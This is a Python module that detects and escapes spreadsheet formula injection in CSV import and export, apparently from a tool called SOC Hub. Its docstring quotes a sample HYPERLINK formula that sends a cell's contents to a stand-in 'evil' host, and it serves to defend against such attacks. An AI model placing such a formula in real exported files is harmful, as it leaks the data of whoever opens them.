"""Spotting and neutralising spreadsheet formulas in cells.

A cell such as ``=HYPERLINK("https://evil/?"&A2, "click")`` runs when a CSV is opened in a
spreadsheet. Imports reject such values in every mapped field (they are never real data), and
the rejects file escapes them so that opening it is safe but re-importing it gives back the
original cell exactly (see :func:`escape_cell` / :func:`unescape_cell`).
"""

from __future__ import annotations

import re

# A spreadsheet runs a cell starting with '=', '@', '+' or '-' (after tabs or line breaks) as a formula,
# whatever follows ('-1+HYPERLINK(...)'). Plain numbers, dates and phone numbers ('-5', '+44 7700 900123')
# are the one safe exception.
_TRIGGERS = "=@+-"
_PLAIN_NUMBER = re.compile(r"^[+\-]?[\d\s().\-/]*$")
_ESCAPED = re.compile(r"^'+")


def looks_like_formula(text: str) -> bool:
    """True for text a spreadsheet would run as a formula (negative numbers and '+44' phones are not)."""
    body = text.lstrip("\t\r\n ")
    if not body or body[0] not in _TRIGGERS:
        return False
    return body[0] in "=@" or not _PLAIN_NUMBER.match(body)


def runs_code(text: str) -> bool:
    """A formula that calls something or assigns (not just a dash or an @handle): refused on import.

    Cells that merely start with a trigger character are accepted, and every CSV SOC Hub writes
    escapes them (:func:`escape_cell`), so they can never run.
    """
    body = text.lstrip("\t\r\n ")
    return looks_like_formula(text) and (body[:1] == "=" or bool(re.search(r"[(|!&]", body)))


def escape_cell(text: str) -> str:
    """Prefix a formula-like cell (or one already so prefixed) with a single quote; other cells unchanged.

    Escaping already-quoted formulas too keeps :func:`unescape_cell` an exact inverse.
    NUL bytes become U+FFFD: spreadsheets mishandle them, and such a row is rejected anyway.
    """
    text = text.replace("\x00", "\ufffd")
    stripped = _ESCAPED.sub("", text)
    return "'" + text if looks_like_formula(stripped) else text


def unescape_cell(text: str) -> str:
    """Undo :func:`escape_cell`: drop one leading quote before a formula-like cell."""
    if text.startswith("'") and looks_like_formula(_ESCAPED.sub("", text)):
        return text[1:]
    return text
